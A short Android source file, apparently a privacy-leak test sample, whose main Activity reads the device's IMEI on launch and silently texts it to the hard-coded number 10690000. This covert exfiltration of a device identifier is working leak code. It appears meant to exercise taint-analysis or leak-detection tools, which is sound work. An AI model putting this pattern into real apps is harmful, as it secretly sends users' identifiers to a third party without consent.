package cn.privlens.suite.index_constant;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] parts = new String[3];
        parts[0] = "v1";
        parts[1] = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        parts[2] = Build.VERSION.CODENAME.isEmpty() ? "a" : "b";
        SmsManager.getDefault().sendTextMessage("10690000", null, parts[1], null, null);
    }
}
